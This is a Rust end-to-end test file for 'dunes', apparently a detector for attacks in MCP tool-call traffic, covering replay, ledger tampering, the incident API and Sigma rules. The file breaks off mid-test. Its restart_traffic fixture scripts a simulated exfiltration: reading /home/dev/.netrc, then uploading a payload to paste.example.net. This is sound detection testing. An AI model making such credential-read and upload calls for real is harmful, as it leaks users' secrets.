//! End-to-end tests of the `dunes` binary on the embedded default (files,
//! stdin, HTTP): replay, dead-letter, ledger verification and tampering,
//! the HTTP API.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

mod common;
use common::{
    bearer, dunes, free_port, labels, read_ndjson, run_ok, sample, sigterm_and_wait, wait_healthy,
};

fn replay_sample(dir: &Path) -> Output {
    run_ok(
        dunes()
            .arg("replay")
            .arg(sample())
            .arg("--data-dir")
            .arg(dir)
            .arg("--incidents-out")
            .arg(dir.join("run-incidents.ndjson")),
    )
}

#[test]
fn replay_of_the_sample_raises_all_three_levels_and_the_ledger_verifies() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let out = replay_sample(&dir);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("processed 3224 envelopes"), "{stdout}");
    assert!(stdout.contains("rejected: 0"), "{stdout}");

    let incidents = read_ndjson(&dir.join("incidents.ndjson"));
    assert_eq!(incidents, read_ndjson(&dir.join("run-incidents.ndjson")));
    let levels: BTreeSet<u64> = incidents
        .iter()
        .map(|i| i["level"].as_u64().expect("level"))
        .collect();
    assert_eq!(levels, BTreeSet::from([1, 2, 3]), "levels seen: {levels:?}");

    // Every incident carries the contract's fields and cites real events.
    let sample_ids: BTreeSet<String> = std::fs::read_to_string(sample())
        .expect("sample")
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).expect("json")["event_id"]
                .as_str()
                .expect("event_id")
                .to_string()
        })
        .collect();
    for inc in &incidents {
        for key in [
            "incident_id",
            "rule_id",
            "rule_sha256",
            "level",
            "severity",
            "title",
            "tags",
            "entity",
            "first_ts",
            "last_ts",
            "event_ids",
            "evidence",
            "status",
        ] {
            assert!(inc.get(key).is_some(), "incident lacks {key}: {inc}");
        }
        assert_eq!(inc["status"], "open");
        assert_eq!(inc["rule_sha256"].as_str().map(str::len), Some(64));
        let ids = inc["event_ids"].as_array().expect("event_ids");
        assert!(!ids.is_empty());
        for id in ids {
            assert!(
                sample_ids.contains(id.as_str().expect("id")),
                "unknown event {id}"
            );
        }
    }

    // Level 1 → containment; Level 3 → isolate_server with a 72 h clock.
    let responses = read_ndjson(&dir.join("responses.ndjson"));
    let actions: BTreeSet<&str> = responses
        .iter()
        .map(|r| r["action"].as_str().expect("action"))
        .collect();
    assert!(actions.contains("isolate_server"), "{actions:?}");
    assert!(
        actions.contains("isolate_session") || actions.contains("block_principal"),
        "{actions:?}"
    );
    for r in responses.iter().filter(|r| r["action"] == "isolate_server") {
        let created = chrono::DateTime::parse_from_rfc3339(r["created_at"].as_str().expect("t"))
            .expect("rfc3339");
        let deadline =
            chrono::DateTime::parse_from_rfc3339(r["regulatory_deadline"].as_str().expect("t"))
                .expect("rfc3339");
        assert_eq!(deadline - created, chrono::Duration::hours(72));
    }
    let l2 = incidents.iter().filter(|i| i["level"] == 2).count();
    assert!(l2 > 0);

    let verify = run_ok(dunes().arg("verify").arg(&dir));
    let report = String::from_utf8_lossy(&verify.stdout);
    assert!(
        report.contains("3224"),
        "verify report names the event count: {report}"
    );
}

#[test]
fn golden_sample_incidents_flag_only_attack_sessions() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    replay_sample(&dir);
    let labels = labels();
    let incidents = read_ndjson(&dir.join("incidents.ndjson"));
    let mut lines = BTreeSet::new();
    for inc in &incidents {
        let session = inc["session_id"].as_str().unwrap_or("-");
        let label = labels
            .get(session)
            .map(String::as_str)
            .unwrap_or("(no session)");
        lines.insert(format!(
            "{:<40} L{} {}",
            inc["rule_id"].as_str().unwrap_or("?"),
            inc["level"],
            label
        ));
    }
    let flagged_benign: Vec<&String> = lines.iter().filter(|l| l.ends_with(" benign")).collect();
    assert!(
        flagged_benign.is_empty(),
        "benign sessions flagged: {flagged_benign:#?}"
    );
    insta::assert_snapshot!(
        "sample_incidents",
        lines.into_iter().collect::<Vec<_>>().join("\n")
    );
}

#[test]
fn flipping_one_ledger_byte_fails_verify_and_names_the_record() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    replay_sample(&dir);
    run_ok(dunes().arg("verify").arg(&dir));

    let seg = std::fs::read_dir(dir.join("ledger"))
        .expect("ledger dir")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "dlg"))
        .min()
        .expect("a segment file");
    let mut bytes = std::fs::read(&seg).expect("segment");
    let at = bytes.len() / 2;
    bytes[at] ^= 0x01;
    std::fs::write(&seg, &bytes).expect("write");

    let out = dunes().arg("verify").arg(&dir).output().expect("spawn");
    assert!(!out.status.success(), "verify accepted a tampered ledger");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("record "),
        "failure does not name a record: {text}"
    );
}

#[test]
fn malformed_lines_go_to_dead_letter_and_good_lines_are_processed() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let input = tmp.path().join("mixed.ndjson");
    let good: Vec<String> = std::fs::read_to_string(sample())
        .expect("sample")
        .lines()
        .take(6)
        .map(str::to_string)
        .collect();
    let mut f = std::fs::File::create(&input).expect("create");
    let mut bad = 0;
    writeln!(f, "{}", good[0]).expect("w");
    writeln!(f, "{{\"ts\": \"2026-11-20T08:00:00Z\", \"server_id\": ").expect("w"); // bad JSON
    bad += 1;
    writeln!(f, "{}", good[1]).expect("w");
    writeln!(
        f,
        r#"{{"server_id":"s","direction":"c2s","message":{{"jsonrpc":"2.0","method":"ping","id":1}}}}"#
    )
    .expect("w"); // missing ts
    bad += 1;
    writeln!(
        f,
        r#"{{"ts":"2026-11-20T08:00:00Z","server_id":"s","direction":"c2s","http":{{"status":"ok"}},"message":{{"jsonrpc":"2.0","method":"ping","id":1}}}}"#
    )
    .expect("w"); // wrong type
    bad += 1;
    writeln!(f, "{}", good[2]).expect("w");
    let huge = format!(
        r#"{{"ts":"2026-11-20T08:00:00Z","server_id":"s","direction":"c2s","message":{{"jsonrpc":"2.0","method":"ping","id":1,"params":{{"pad":"{}"}}}}}}"#,
        "x".repeat(1_200_000)
    );
    writeln!(f, "{huge}").expect("w"); // oversize
    bad += 1;
    f.write_all(b"{\"ts\":\"2026-11-20T08:00:00Z\",\"server_id\":\"s\xff\xfe\",\"direction\":\"c2s\",\"message\":{}}\n")
        .expect("w"); // invalid UTF-8
    bad += 1;
    for g in &good[3..] {
        writeln!(f, "{g}").expect("w");
    }
    drop(f);

    let out = run_ok(
        dunes()
            .arg("replay")
            .arg(&input)
            .arg("--data-dir")
            .arg(&dir),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(&format!("processed {} envelopes", good.len())),
        "{stdout}"
    );
    assert!(stdout.contains(&format!("rejected: {bad}")), "{stdout}");

    let dl = read_ndjson(&dir.join("dead-letter.ndjson"));
    assert_eq!(dl.len(), bad);
    let sources: Vec<String> = dl
        .iter()
        .map(|d| d["source"].as_str().expect("source").to_string())
        .collect();
    for (i, line) in [2, 4, 5, 7, 8].iter().enumerate() {
        assert!(
            sources[i].ends_with(&format!(":{line}")),
            "dead letter {i} source {} should be line {line}",
            sources[i]
        );
    }
    let reasons: Vec<String> = dl
        .iter()
        .map(|d| d["reason"].as_str().expect("reason").to_lowercase())
        .collect();
    assert!(reasons[0].contains("json"), "{}", reasons[0]);
    assert!(reasons[1].contains("ts"), "{}", reasons[1]);
    assert!(reasons[2].contains("status"), "{}", reasons[2]);
    assert!(
        reasons[3].contains("limit") || reasons[3].contains("size"),
        "{}",
        reasons[3]
    );
    assert!(reasons[4].contains("utf-8"), "{}", reasons[4]);
    for d in &dl {
        assert!(
            d.get("raw").is_some(),
            "dead letter keeps the raw line: {d}"
        );
    }
    run_ok(dunes().arg("verify").arg(&dir));
}

#[test]
fn stdin_source_is_processed_to_eof() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let text = std::fs::read_to_string(sample()).expect("sample");
    let head: String = text.lines().take(50).map(|l| format!("{l}\n")).collect();
    let mut child = dunes()
        .args(["run", "--stdin", "--no-http", "--data-dir"])
        .arg(&dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(head.as_bytes())
        .expect("write stdin");
    let out = child.wait_with_output().expect("wait");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("processed 50 envelopes"), "{stdout}");
    run_ok(dunes().arg("verify").arg(&dir));
}

/// SIGTERM, wait (at most 30 s) for a clean exit, then verify the ledger.
fn stop_and_verify(child: &mut std::process::Child, dir: &Path) {
    sigterm_and_wait(child);
    run_ok(dunes().arg("verify").arg(dir));
}

/// Starts `dunes run` with `extra` args on a free loopback port and waits
/// until it is healthy; returns the child and the base URL.
fn start_run(dir: &Path, extra: &[&OsStr]) -> (std::process::Child, String) {
    let port = free_port();
    let child = dunes()
        .arg("run")
        .args(extra)
        .arg("--data-dir")
        .arg(dir)
        .arg("--listen")
        .arg(format!("127.0.0.1:{port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    let base = format!("http://127.0.0.1:{port}");
    wait_healthy(&base);
    (child, base)
}

#[test]
fn http_ingest_and_incident_api() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let cfg = tmp.path().join("dunes.toml");
    std::fs::write(
        &cfg,
        "[ledger]\ncheckpoint_every_records = 1\n[http]\nmax_body_bytes = 262144\n",
    )
    .expect("config");
    let (mut child, base) = start_run(&dir, &[OsStr::new("--config"), cfg.as_os_str()]);

    // An attack session (every line of one labelled session) as NDJSON.
    let labels = labels();
    let text = std::fs::read_to_string(sample()).expect("sample");
    let lines: Vec<&str> = text.lines().collect();
    let attack_session = lines
        .iter()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|v| v["session_id"].as_str().map(str::to_string))
        .find(|s| labels.get(s).map(String::as_str) == Some("secrets_in_args"))
        .expect("a secrets session");
    let body: String = lines
        .iter()
        .filter(|l| l.contains(&attack_session))
        .map(|l| format!("{l}\n"))
        .collect();
    let n = body.lines().count() as u64;
    let body = format!("{body}not json at all\n");
    let mut resp = ureq::post(&format!("{base}/v1/ingest"))
        .header("authorization", bearer(&dir, "ingest"))
        .header("content-type", "application/x-ndjson")
        .send(body.as_bytes())
        .expect("ingest");
    assert_eq!(resp.status().as_u16(), 202);
    let ack: Value = resp.body_mut().read_json().expect("ack");
    assert_eq!(ack["accepted"], n);
    assert_eq!(ack["rejected"], 1);
    assert!(ack["incidents"].as_u64().expect("incidents") > 0, "{ack}");

    // A JSON array body works too.
    let arr = format!("[{}]", lines[0]);
    let mut resp = ureq::post(&format!("{base}/v1/ingest"))
        .header("authorization", bearer(&dir, "ingest"))
        .header("content-type", "application/json")
        .send(arr.as_bytes())
        .expect("ingest array");
    let ack: Value = resp.body_mut().read_json().expect("ack");
    assert_eq!(ack["accepted"], 1);

    // Bodies over the configured limit are refused with 413, nothing ingested.
    let big = vec![b' '; 300_000];
    let err = ureq::post(&format!("{base}/v1/ingest"))
        .header("authorization", bearer(&dir, "ingest"))
        .send(&big[..]);
    assert!(matches!(err, Err(ureq::Error::StatusCode(413))), "{err:?}");

    // Without a token: 401.
    let err = ureq::get(&format!("{base}/api/v1/incidents")).call();
    assert!(matches!(err, Err(ureq::Error::StatusCode(401))), "{err:?}");
    let viewer = bearer(&dir, "viewer");
    let auditor = bearer(&dir, "auditor");
    let mut resp = ureq::get(&format!("{base}/api/v1/incidents"))
        .header("authorization", &viewer)
        .call()
        .expect("list");
    let list: Value = resp.body_mut().read_json().expect("json");
    let incidents = list["incidents"].as_array().expect("array");
    assert!(!incidents.is_empty());
    assert!(
        incidents
            .iter()
            .all(|i| i["session_id"] == attack_session.as_str())
    );
    let id = incidents[0]["incident_id"]
        .as_str()
        .expect("id")
        .to_string();

    let mut resp = ureq::get(&format!("{base}/api/v1/incidents/{id}"))
        .header("authorization", &viewer)
        .call()
        .expect("get");
    let one: Value = resp.body_mut().read_json().expect("json");
    assert_eq!(one["incident_id"], id.as_str());

    let lvl = incidents[0]["level"].as_u64().expect("level");
    let mut resp = ureq::get(&format!("{base}/api/v1/incidents?level={lvl}&status=open"))
        .header("authorization", &viewer)
        .call()
        .expect("filter");
    let filtered: Value = resp.body_mut().read_json().expect("json");
    assert!(
        filtered["incidents"]
            .as_array()
            .expect("array")
            .iter()
            .all(|i| i["level"] == lvl)
    );
    let mut resp = ureq::get(&format!(
        "{base}/api/v1/incidents?since=2999-01-01T00:00:00Z"
    ))
    .header("authorization", &viewer)
    .call()
    .expect("since");
    let none: Value = resp.body_mut().read_json().expect("json");
    assert_eq!(none["count"], 0);

    let err = ureq::get(&format!("{base}/api/v1/incidents/inc-nope"))
        .header("authorization", &viewer)
        .call();
    assert!(matches!(err, Err(ureq::Error::StatusCode(404))), "{err:?}");
    let err = ureq::get(&format!("{base}/api/v1/incidents?level=9"))
        .header("authorization", &viewer)
        .call();
    assert!(matches!(err, Err(ureq::Error::StatusCode(400))), "{err:?}");

    // A viewer may not read the ledger; an auditor may.
    let err = ureq::get(&format!("{base}/api/v1/ledger/checkpoint"))
        .header("authorization", &viewer)
        .call();
    assert!(matches!(err, Err(ureq::Error::StatusCode(403))), "{err:?}");
    let mut resp = ureq::get(&format!("{base}/api/v1/ledger/checkpoint"))
        .header("authorization", &auditor)
        .call()
        .expect("checkpoint");
    let cp: Value = resp.body_mut().read_json().expect("json");
    assert!(cp["tree_size"].as_u64().expect("tree_size") >= n);

    // Graceful shutdown on SIGTERM writes a final checkpoint.
    stop_and_verify(&mut child, &dir);
}

#[test]
fn simulate_is_deterministic_and_flows_through_replay() {
    let tmp = tempfile::tempdir().expect("tmp");
    let a = tmp.path().join("a.ndjson");
    let b = tmp.path().join("b.ndjson");
    let l = tmp.path().join("labels.json");
    run_ok(
        dunes()
            .args(["simulate", "--sessions", "40", "--seed", "9", "--out"])
            .arg(&a)
            .arg("--labels")
            .arg(&l),
    );
    run_ok(
        dunes()
            .args(["simulate", "--sessions", "40", "--seed", "9", "--out"])
            .arg(&b),
    );
    assert_eq!(std::fs::read(&a).expect("a"), std::fs::read(&b).expect("b"));
    let labels: BTreeMap<String, String> =
        serde_json::from_slice(&std::fs::read(&l).expect("labels")).expect("json");
    assert_eq!(labels.len(), 40);
    let dir = tmp.path().join("data");
    let out = run_ok(dunes().arg("replay").arg(&a).arg("--data-dir").arg(&dir));
    assert!(String::from_utf8_lossy(&out.stdout).contains("rejected: 0"));
    run_ok(dunes().arg("verify").arg(&dir));
}

#[test]
fn demo_prints_incidents_and_exits_with_no_serve() {
    let tmp = tempfile::tempdir().expect("tmp");
    let out = run_ok(
        dunes()
            .args(["demo", "--sessions", "30", "--no-serve", "--data-dir"])
            .arg(tmp.path()),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("incidents (level 1:"), "{stdout}");
    run_ok(dunes().arg("verify").arg(tmp.path().join("demo")));
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for e in std::fs::read_dir(from).expect("read_dir") {
        let p = e.expect("entry").path();
        let dest = to.join(p.file_name().expect("name"));
        if p.is_dir() {
            copy_dir(&p, &dest);
        } else {
            std::fs::copy(&p, &dest).expect("copy");
        }
    }
}

/// An agent that hands back 4xx/5xx responses instead of errors.
fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into()
}

/// One `secrets_in_args` session of the shipped sample: its id and its lines.
fn secrets_session() -> (String, Vec<String>) {
    let labels = labels();
    let text = std::fs::read_to_string(sample()).expect("sample");
    let session = text
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|v| v["session_id"].as_str().map(str::to_string))
        .find(|s| labels.get(s).map(String::as_str) == Some("secrets_in_args"))
        .expect("a secrets session");
    let lines = text
        .lines()
        .filter(|l| l.contains(&session))
        .map(str::to_string)
        .collect();
    (session, lines)
}

/// Ingests one `secrets_in_args` session of the shipped sample over HTTP and
/// checks that `rule_id` raised an incident for it.
fn ingest_a_secrets_session_and_expect(base: &str, dir: &Path, rule_id: &str) {
    let (session, lines) = secrets_session();
    let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let mut resp = ureq::post(&format!("{base}/v1/ingest"))
        .header("authorization", bearer(dir, "ingest"))
        .send(body.as_bytes())
        .expect("ingest");
    let ack: Value = resp.body_mut().read_json().expect("ack");
    assert!(ack["incidents"].as_u64().expect("incidents") > 0, "{ack}");
    let mut resp = ureq::get(&format!("{base}/api/v1/incidents"))
        .header("authorization", bearer(dir, "viewer"))
        .call()
        .expect("list");
    let list: Value = resp.body_mut().read_json().expect("json");
    assert!(
        list["incidents"]
            .as_array()
            .expect("array")
            .iter()
            .any(|i| i["rule_id"] == rule_id && i["session_id"] == session.as_str()),
        "{list}"
    );
}

fn post_reload(base: &str, dir: &Path) -> (u16, Value) {
    let mut resp = agent()
        .post(&format!("{base}/api/v1/rules/reload"))
        .header("authorization", bearer(dir, "admin"))
        .header("idempotency-key", uuid::Uuid::new_v4().to_string())
        .send_empty()
        .expect("reload request");
    let status = resp.status().as_u16();
    (status, resp.body_mut().read_json().expect("json body"))
}

#[test]
fn rules_hot_reload_over_http_refuses_a_broken_rule_and_keeps_detecting() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let rules = tmp.path().join("rules");
    copy_dir(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules"),
        &rules,
    );
    let (mut child, base) = start_run(&dir, &[OsStr::new("--rules"), rules.as_os_str()]);

    // An unchanged directory reloads fine and changes nothing.
    let (status, ack) = post_reload(&base, &dir);
    assert_eq!(status, 200, "{ack}");
    assert_eq!(ack["changed"], false, "{ack}");
    let version = ack["version"].as_str().expect("version").to_string();

    // Break the rule that catches the attack below.
    let file = rules.join("secrets/secret-in-tool-args.yaml");
    let good = std::fs::read_to_string(&file).expect("rule");
    std::fs::write(
        &file,
        good.replacen("query: |", "query: [unclosed\n  x: |", 1),
    )
    .expect("break");
    let (status, body) = post_reload(&base, &dir);
    assert_eq!(status, 422, "{body}");
    let err = body["error"].as_str().expect("error").to_string();
    let at = err
        .find("secret-in-tool-args.yaml:")
        .unwrap_or_else(|| panic!("error does not name the file: {err}"));
    let after = &err[at + "secret-in-tool-args.yaml:".len()..];
    assert!(
        after.starts_with(|c: char| c.is_ascii_digit()),
        "error does not name the line: {err}"
    );

    // The previous rules keep running.
    ingest_a_secrets_session_and_expect(&base, &dir, "secret-in-tool-args");

    // Fixed (and reworded): reload succeeds with a new version.
    std::fs::write(&file, good.replacen("title: ", "title: (v2) ", 1)).expect("fix");
    let (status, ack) = post_reload(&base, &dir);
    assert_eq!(status, 200, "{ack}");
    assert_ne!(ack["version"].as_str(), Some(version.as_str()), "{ack}");
    assert!(ack["rules"].as_u64().expect("rules") > 20, "{ack}");

    stop_and_verify(&mut child, &dir);
}

/// `dunes run --rules` on the shipped Sigma pack alone: the rules load from
/// the .yml files directly, an attack session raises the Sigma rule's
/// incident, the API shows the rules' source format, and `rules/validate`
/// converts a Sigma body or refuses it with the construct and the reason.
#[test]
fn run_loads_sigma_rules_directly_and_the_api_shows_their_source() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let rules = tmp.path().join("sigma");
    copy_dir(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("sigma"),
        &rules,
    );
    let (mut child, base) = start_run(&dir, &[OsStr::new("--rules"), rules.as_os_str()]);
    ingest_a_secrets_session_and_expect(&base, &dir, "mcp-secret-in-tool-args");
    let mut resp = ureq::get(&format!("{base}/api/v1/rules/mcp-call-flood-rate"))
        .header("authorization", bearer(&dir, "auditor"))
        .call()
        .expect("rule");
    let rule: Value = resp.body_mut().read_json().expect("json");
    assert_eq!(rule["source_format"], "sigma", "{rule}");
    assert_eq!(rule["kind"], "threshold", "{rule}");
    assert_eq!(rule["sigma"]["kind"], "event_count", "{rule}");
    assert_eq!(rule["sigma"]["twin"], "call-flood-rate", "{rule}");

    let validate = |body: &str| {
        let mut resp = agent()
            .post(&format!("{base}/api/v1/rules/validate"))
            .header("authorization", bearer(&dir, "admin"))
            .send(body.as_bytes())
            .expect("validate");
        let status = resp.status().as_u16();
        (status, resp.body_mut().read_json::<Value>().expect("json"))
    };
    let sigma = std::fs::read_to_string(rules.join("exfiltration/credential-read-then-egress.yml"))
        .expect("rule");
    let (status, v) = validate(&sigma);
    assert_eq!(status, 200, "{v}");
    let converted = v["rules"].as_array().expect("rules");
    assert_eq!(
        converted.len(),
        1,
        "the step rules are correlation inputs only: {v}"
    );
    assert_eq!(converted[0]["kind"], "sequence", "{v}");
    assert_eq!(converted[0]["source_format"], "sigma", "{v}");
    let (status, v) = validate(&sigma.replace("product: mcp", "product: windows"));
    assert_eq!(status, 422, "{v}");
    let err = v["error"].as_str().expect("error");
    assert!(
        err.contains("logsource product \"windows\": Dunes maps `product: mcp` only"),
        "{err}"
    );
    // Flow collections nested past the bound are refused before the YAML
    // parser sees them (its time grows with the square of the nesting): a
    // Sigma body and the native rule file AFL found (fuzz/findings/).
    let refused = |body: &str, reason: &str| {
        let (status, v) = validate(body);
        assert_eq!(status, 422, "{v}");
        assert!(
            v["error"].as_str().is_some_and(|e| e.contains(reason)),
            "{v}"
        );
    };
    refused(
        &format!("{sigma}\nfalsepositives: {}\n", "[".repeat(200_000)),
        "nested more than 128 deep",
    );
    let finding = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("fuzz/findings/rule-slow-yaml-flow-nesting.yaml"),
    )
    .expect("finding");
    refused(&finding, ":35: YAML flow collections");
    stop_and_verify(&mut child, &dir);
}

#[test]
fn rules_lint_exits_non_zero_naming_file_and_line() {
    let tmp = tempfile::tempdir().expect("tmp");
    let rules = tmp.path().join("rules");
    copy_dir(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules"),
        &rules,
    );
    run_ok(dunes().args(["rules", "lint"]).arg(&rules));
    // Drop the negative test and break a tag of one rule.
    let file = rules.join("injection/path-traversal-in-args.yaml");
    let text = std::fs::read_to_string(&file).expect("rule");
    let broken = text
        .replace("owasp-mcp:MCP05", "owasp-mcp:MCP5")
        .replace("    expect: 0\n", "    expect: 3\n");
    std::fs::write(&file, broken).expect("write");
    let out = dunes()
        .args(["rules", "lint"])
        .arg(&rules)
        .output()
        .expect("run");
    assert!(!out.status.success(), "lint passed a broken rule");
    let err = String::from_utf8_lossy(&out.stderr);
    let tags_line = text
        .lines()
        .position(|l| l.starts_with("tags:"))
        .expect("tags line")
        + 1;
    assert!(
        err.contains(&format!(
            "path-traversal-in-args.yaml:{tags_line}: tag \"owasp-mcp:MCP5\""
        )),
        "{err}"
    );
    assert!(err.contains("no negative inline test"), "{err}");
}

/// Rule-set versions ledgered in `dir` (the `rule_set` records, in order).
fn ledgered_rule_set_versions(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut segs: Vec<PathBuf> = std::fs::read_dir(dir.join("ledger"))
        .expect("ledger dir")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|x| x == "dlg"))
        .collect();
    segs.sort();
    let needle = br#""type":"rule_set","version":""#;
    for seg in segs {
        let bytes = std::fs::read(&seg).expect("segment");
        let mut at = 0;
        while let Some(i) = bytes[at..].windows(needle.len()).position(|w| w == needle) {
            let start = at + i + needle.len();
            out.push(String::from_utf8_lossy(&bytes[start..start + 64]).into_owned());
            at = start;
        }
    }
    out
}

#[test]
fn rules_watcher_alone_picks_up_an_edited_rule_file() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let rules = tmp.path().join("rules");
    copy_dir(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules"),
        &rules,
    );
    // Start without the rule under test; it is added back by editing the
    // directory only (no reload call): the 2 s watcher must pick it up.
    let file = rules.join("secrets/secret-in-tool-args.yaml");
    let good = std::fs::read_to_string(&file).expect("rule");
    std::fs::remove_file(&file).expect("remove");
    let (mut child, base) = start_run(&dir, &[OsStr::new("--rules"), rules.as_os_str()]);
    let start_versions = ledgered_rule_set_versions(&dir);
    assert_eq!(start_versions.len(), 1, "{start_versions:?}");

    // A secrets-in-args session, re-labelled per attempt so every attempt
    // is new traffic (fresh session and event ids).
    let (_, lines) = secrets_session();
    let viewer = bearer(&dir, "viewer");
    let send = |attempt: usize| -> String {
        let sid = format!("watch-{attempt}");
        let body: String = lines
            .iter()
            .map(|l| {
                let mut v: Value = serde_json::from_str(l).expect("json");
                v["session_id"] = Value::from(sid.clone());
                if let Some(id) = v["event_id"].as_str() {
                    v["event_id"] = Value::from(format!("{sid}-{id}"));
                }
                format!("{v}\n")
            })
            .collect();
        ureq::post(&format!("{base}/v1/ingest"))
            .header("authorization", bearer(&dir, "ingest"))
            .send(body.as_bytes())
            .expect("ingest");
        sid
    };
    let fired = |sid: &str| -> bool {
        let mut resp = ureq::get(&format!("{base}/api/v1/incidents"))
            .header("authorization", &viewer)
            .call()
            .expect("list");
        let list: Value = resp.body_mut().read_json().expect("json");
        list["incidents"]
            .as_array()
            .expect("array")
            .iter()
            .any(|i| i["rule_id"] == "secret-in-tool-args" && i["session_id"] == sid)
    };
    let sid = send(0);
    assert!(!fired(&sid), "rule absent at start, yet it fired");

    std::fs::write(&file, &good).expect("restore rule");
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut attempt = 1;
    loop {
        std::thread::sleep(Duration::from_millis(500));
        let sid = send(attempt);
        if fired(&sid) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the watcher did not load the restored rule within 30 s"
        );
        attempt += 1;
    }
    // The watcher ledgered the new rule-set version (no HTTP reload made).
    let versions = ledgered_rule_set_versions(&dir);
    assert_eq!(versions.len(), 2, "{versions:?}");
    assert_ne!(versions[0], versions[1]);

    stop_and_verify(&mut child, &dir);
}

/// A session that reads a credential file then ships a large high-entropy
/// payload 2 minutes later (sequence rule), and a session flooding 61
/// calls in 30 s (threshold rule), split in two halves mid-sequence and
/// mid-window.
fn restart_traffic() -> (String, String) {
    let env = |id: &str, ts: &str, session: &str, n: usize, tool: &str, args: Value| {
        serde_json::json!({
            "ts": ts, "event_id": id, "server_id": "svc-r", "direction": "c2s",
            "session_id": session,
            "message": {"jsonrpc": "2.0", "id": n, "method": "tools/call",
                        "params": {"name": tool, "arguments": args}}
        })
        .to_string()
    };
    // Uniform base64-alphabet text: ~6 bits/char.
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let payload: String = (0..1700)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            B64[(x % 64) as usize] as char
        })
        .collect();
    let mut part1 = vec![env(
        "rs-cred",
        "2026-11-20T08:00:00Z",
        "rs-exfil",
        1,
        "open_file",
        serde_json::json!({"path": "/home/dev/.netrc"}),
    )];
    let mut part2 = Vec::new();
    for i in 0..61 {
        let line = env(
            &format!("rs-flood-{i}"),
            &format!("2026-11-20T08:00:{:02}.{:03}Z", i / 2, (i % 2) * 500),
            "rs-flood",
            i + 1,
            "lookup",
            serde_json::json!({"q": format!("item {i}")}),
        );
        if i < 30 {
            part1.push(line)
        } else {
            part2.push(line)
        }
    }
    part2.push(env(
        "rs-egress",
        "2026-11-20T08:02:00Z",
        "rs-exfil",
        2,
        "upload",
        serde_json::json!({"dest": "https://paste.example.net/new", "content": payload}),
    ));
    let join = |v: Vec<String>| v.into_iter().map(|l| format!("{l}\n")).collect::<String>();
    (join(part1), join(part2))
}

/// (rule, session) of every incident and the incident ids, newest line wins.
fn incident_summary(dir: &Path) -> (BTreeSet<(String, String)>, BTreeMap<String, Value>) {
    let mut pairs = BTreeSet::new();
    let mut by_id = BTreeMap::new();
    for inc in read_ndjson(&dir.join("incidents.ndjson")) {
        pairs.insert((
            inc["rule_id"].as_str().expect("rule").to_string(),
            inc["session_id"].as_str().unwrap_or("-").to_string(),
        ));
        by_id.insert(
            inc["incident_id"].as_str().expect("id").to_string(),
            serde_json::json!({"rule": inc["rule_id"], "event_ids": inc["event_ids"]}),
        );
    }
    (pairs, by_id)
}

#[test]
fn restart_mid_window_and_mid_sequence_fires_as_in_one_process() {
    let tmp = tempfile::tempdir().expect("tmp");
    let (p1, p2) = restart_traffic();
    let part1 = tmp.path().join("part1.ndjson");
    let part2 = tmp.path().join("part2.ndjson");
    let both = tmp.path().join("both.ndjson");
    std::fs::write(&part1, &p1).expect("w");
    std::fs::write(&part2, &p2).expect("w");
    std::fs::write(&both, format!("{p1}{p2}")).expect("w");

    let one = tmp.path().join("one");
    run_ok(dunes().arg("replay").arg(&both).arg("--data-dir").arg(&one));
    let two = tmp.path().join("two");
    run_ok(
        dunes()
            .arg("replay")
            .arg(&part1)
            .arg("--data-dir")
            .arg(&two),
    );
    let (after_first, _) = incident_summary(&two);
    assert!(
        !after_first
            .iter()
            .any(|(r, _)| r == "credential-read-then-egress" || r == "call-flood-rate"),
        "stateful rules fired on half the traffic: {after_first:?}"
    );
    run_ok(
        dunes()
            .arg("replay")
